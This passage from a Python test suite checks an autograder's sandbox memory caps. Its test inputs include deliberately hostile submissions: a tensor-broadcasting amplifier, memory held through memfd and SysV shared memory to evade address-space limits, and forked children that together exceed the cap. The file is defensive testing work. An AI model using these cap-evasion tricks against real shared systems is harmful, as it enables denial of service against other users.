        write_notebook(course, student, cells)
    rows = autograde(Course(course), workers=2, progress=False)
    print(json.dumps({"rss_mb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss >> 10,
                      "rows": {r.student: [r.status, r.message, [c.passed for c in r.core]] for r in rows}}))
""")


def grade_measuring_memory(tmp_path, students, config=""):
    """Grade a class in a process of its own: its rows, and that process's peak RSS in MiB."""
    done = subprocess.run([sys.executable, "-c", GRADE_AND_MEASURE, str(COURSE / "tests"), str(tmp_path / "course"),
                           CAPS + config, json.dumps(students)], cwd=COURSE, capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 0, done.stderr[-3000:]
    report = json.loads(done.stdout.strip().splitlines()[-1])
    return report["rows"], report["rss_mb"]


# Answers of hundreds of MiB: one read at once (over the budget, refused unread), and reads that
# are each within it and add up past it. Shaped like what they stand for, so that judging them
# costs no more than their size.
HUGE_ANSWERS = {
    "b1-huge-read": SOLUTION.replace("            self._tmp_mean = mean\n",
                                     "            self._tmp_mean = torch.zeros(60_000_000)\n"),
    "b2-many-reads": SOLUTION.replace(
        "            self._tmp_mean = mean\n            self._tmp_var = var\n",
        "            self._tmp_mean, self._tmp_var = mean, var\n"
        "            if len(x.shape) == 2:  # 30 MB each, every row the right answer\n"
        "                self._tmp_mean, self._tmp_var = mean.expand(60_000, -1).clone(), var.expand(60_000, -1).clone()\n"),
}


def test_huge_answers_end_in_their_own_row_and_the_grader_stays_small(tmp_path):
    students = {"a-solution": [SOLUTION], **{k: [v] for k, v in HUGE_ANSWERS.items()}}
    rows, rss = grade_measuring_memory(tmp_path, students, "c.Sandbox.answer_mb = 48\n")
    assert rows["a-solution"][0] == "ok" and rows["a-solution"][2] == ALL
    assert rows["b1-huge-read"][0] == "too-much-data" and rows["b1-huge-read"][2] == ALL[:4] + NONE[4:]
    assert rows["b2-many-reads"][0] == "too-much-data" and rows["b2-many-reads"][2] == ALL[:5] + NONE[5:]
    assert rss < 1100, f"the grader peaked at {rss} MiB"


# Five tensors of a few KiB each, shaped to broadcast against one another and against what they
# are compared with: judging `gamma * x_hat + beta` and comparing it with the output materialises
# (420, 420, 420) floats, several times over. At N = 900 that is tens of GiB: the grader, and the
# whole class with it, is killed for memory.
AMPLIFIER = SOLUTION.replace("        return z\n", "".join(f"        {line}\n" for line in (
    "N = 420",
    "self.gamma = nn.Parameter(torch.ones(N, 1, 1))",
    "self.beta = nn.Parameter(torch.zeros(1, 1, N))",
    "self._tmp_x_hat_train = torch.ones(1, N, 1)",
    "return torch.zeros(1)")))


def test_judging_answers_costs_no_more_than_their_size(tmp_path):
    rows, rss = grade_measuring_memory(tmp_path, {"a-amplifier": [AMPLIFIER]})
    assert rss < 1100, f"a few KiB of answers made the grader peak at {rss} MiB"
    status, _, passed = rows["a-amplifier"]
    assert status == "ok" and not all(passed), rows  # graded, and what it answered too large is refused


# ---- caps on a single submission ---------------------------------------------------------


@pytest.fixture(scope="module")
def small_box(tmp_path_factory):
    """A sandbox whose submissions may use 1000 MiB (the student's process starts near 700)."""
    course = Course(copy_course(tmp_path_factory.mktemp("small")))
    course.sandbox.memory_mb = 1000
    course.sandbox.wall_seconds = 30
    battery = Battery(contract.get("batchnorm"), course.grading.hidden_points)
    with Sandbox(course.sandbox) as box:
        yield lambda cells: battery.grade(box, "student", [(n + 1, c) for n, c in enumerate(cells)])


# 1.1 GiB held where an address-space cap does not look: memfd files and SysV shared memory.
OUTSIDE_ADDRESS_SPACE = code("""
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    held, chunk = 0, b"x" * (16 << 20)
    try:
        for n in range(4):
            fd = os.memfd_create(f"hold{n}")
            for _ in range(10):
                os.write(fd, chunk)
                held += 16
    except OSError:
        pass
    for n in range(4):
        segment = libc.shmget(0, 128 << 20, 0o1600)
        if segment < 0:
            break
        address = libc.shmat(segment, None, 0)
        if address in (None, ctypes.c_void_p(-1).value):
            break
        ctypes.memset(address, 1, 128 << 20)
        libc.shmdt(ctypes.c_void_p(address))
        held += 128
    HELD = held
""")


def test_memory_held_outside_the_address_space_is_refused(small_box):
    row = small_box([OUTSIDE_ADDRESS_SPACE, only_if("HELD > 1000")])
    assert (row.status, verdicts(row)) == ("ok", ALL), row.message


# Five children, each within the cap, together past it. The parent reads until every child has
# ended, so a child the kernel kills does not leave it waiting.
FORKS_PAST_THE_CAP = code("""
    import os, time
    read_end, write_end = os.pipe()
    children = []
    for _ in range(5):
        pid = os.fork()
        if pid == 0:
            os.close(read_end)
            try:
                hog = bytearray(240 << 20)
                os.write(write_end, b"y")
            except MemoryError:
                os.write(write_end, b"n")
            time.sleep(3)
            os._exit(0)
        children.append(pid)
    os.close(write_end)
    got = b""
    while chunk := os.read(read_end, 16):
        got += chunk
    HELD = 240 * got.count(b"y")
    for pid in children:
        os.waitpid(pid, 0)
""")


@pytest.mark.skipif(not Cgroup.root("memory"), reason="the grader cannot make a memory cgroup here (not root)")
def test_memory_cap_holds_for_the_submission_not_each_process(small_box):
    """Together past the cap, the submission's processes are stopped for memory: the attack never
    holds more than the cap (it would grade as the skeleton), and its row says why."""
    row = small_box([FORKS_PAST_THE_CAP, only_if("HELD > 1000")])
    assert row.status == "memory" and "1000 MiB" in row.message, (row.status, row.message)


def test_the_memory_cap_leaves_the_sandbox_to_the_next_submission(small_box):
    """The kernel's choice falls on the submission's processes, never the zygote: the next
    submission in the same box is graded as usual."""
    small_box([FORKS_PAST_THE_CAP])
    row = small_box([SOLUTION])
    assert (row.status, verdicts(row)) == ("ok", ALL), row.message
